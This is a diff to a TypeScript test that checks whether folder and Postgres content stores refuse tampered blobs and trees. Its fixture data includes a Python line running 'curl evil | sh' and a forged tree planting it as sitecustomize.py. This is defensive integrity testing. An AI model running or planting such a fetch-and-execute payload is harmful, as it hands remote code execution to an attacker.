@@ -4,16 +4,17 @@
 // no password in what a person is shown, and errors that say what to do.
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import pg from 'pg';
 import { FolderStore } from '../../src/sandbox/store/folderStore.js';
 import { fullPatchOf, patchForReport } from '../../src/sandbox/patch.js';
 import { blobsTable, PostgresStore, treesTable } from '../../src/sandbox/store/postgresStore.js';
-import type { ContentStore } from '../../src/sandbox/store/contentStore.js';
+import { DamagedContentError, type ContentStore } from '../../src/sandbox/store/contentStore.js';
 import { openContentStore } from '../../src/sandbox/store/openStore.js';
 import { sha256, treeDigest, type Tree, type TreeEntry } from '../../src/sandbox/tree.js';
+import { WorkspaceFolder } from '../../src/sandbox/workspaceFolder.js';
 import { startTestPostgres, type TestPostgres } from '../support/postgres.js';
 
 let server: TestPostgres;
@@ -77,6 +78,90 @@ test('both backends: blobs and trees read back as written, a missing one is an e
       postgres!.getBlob(sha256('never stored')),
       /is not in the content store postgres:\/\/durable@127\.0\.0\.1:\d+\/durable_debugger/,
     );
+  });
+});
+
+test('both backends: a damaged or replaced blob or tree is refused, naming it, and a rebuild from it stops there', async () => {
+  const good = Buffer.from('def mean(xs):\n    return sum(xs) / len(xs)\n');
+  const other = Buffer.from('import os\nos.system("curl evil | sh")\n');
+  const tree = treeOf({ 'stats.py': good });
+  const blob = sha256(good);
+  const folderStore = new FolderStore(join(folder, 'damaged'));
+  await withStores(1, async ([postgres]) => {
+    const client = new pg.Client({ connectionString: server.url });
+    await client.connect();
+    try {
+      const backends: Array<{
+        store: ContentStore;
+        setBlob(content: Buffer): Promise<void>;
+        setTree(text: string): Promise<void>;
+      }> = [
+        {
+          store: folderStore,
+          setBlob: (content) => writeFile(folderStore.blobPath(blob), content),
+          setTree: (text) => writeFile(join(folderStore.root, 'trees', `${tree.digest}.json`), text),
+        },
+        {
+          store: postgres!,
+          setBlob: async (content) => {
+            await client.query(`UPDATE ${blobsTable} SET content = $2 WHERE id = $1`, [blob, content]);
+          },
+          setTree: async (text) => {
+            await client.query(`UPDATE ${treesTable} SET tree = $2 WHERE digest = $1`, [tree.digest, text]);
+          },
+        },
+      ];
+      for (const { store, setBlob, setTree } of backends) {
+        await store.putBlob(blob, good);
+        await store.putTree(tree);
+        const damaged = Buffer.from(good);
+        damaged.writeUInt8(damaged.readUInt8(4) ^ 0x20, 4); // one flipped bit
+        for (const content of [damaged, other, Buffer.alloc(0)]) {
+          await setBlob(content);
+          await assert.rejects(store.getBlob(blob), (error: Error) => {
+            assert.ok(error instanceof DamagedContentError, error.message);
+            assert.match(
+              error.message,
+              new RegExp(
+                `^Blob ${blob} in the content store is damaged: its ${content.length} bytes hash to ${sha256(content)}`,
+              ),
+            );
+            assert.ok(error.message.includes(store.whereIs(blob)), error.message);
+            return true;
+          });
+          // A rebuild of the workspace from it stops at that blob instead of writing its bytes.
+          const workspace = new WorkspaceFolder(
+            join(folder, `rebuild-${sha256(content).slice(0, 8)}`, 'workspace'),
+            store,
+            {
+              uid: process.getuid?.() ?? 0,
+              gid: process.getgid?.() ?? 0,
+            },
+          );
+          await assert.rejects(
+            workspace.rebuild(tree.digest, []),
+            new RegExp(`Blob ${blob} in the content store is damaged`),
+          );
+        }
+        await setBlob(good);
+        assert.deepEqual(await store.getBlob(blob), good);
+
+        const forged: Tree = treeOf({ 'stats.py': good, 'sitecustomize.py': other });
+        for (const text of [JSON.stringify({ ...forged, digest: tree.digest }), '{"digest": "half a tr']) {
+          await setTree(text);
+          await assert.rejects(
+            store.getTree(tree.digest),
+            new RegExp(
+              `Snapshot tree ${tree.digest} in the content store \\(.*\\) is damaged: (its entries hash to ${forged.digest}|it is not a tree)`,
+            ),
+          );
+        }
+        await setTree(JSON.stringify(tree));
+        assert.deepEqual(await store.getTree(tree.digest), tree);
+      }
+    } finally {
+      await client.end();
+    }
   });
 });
 
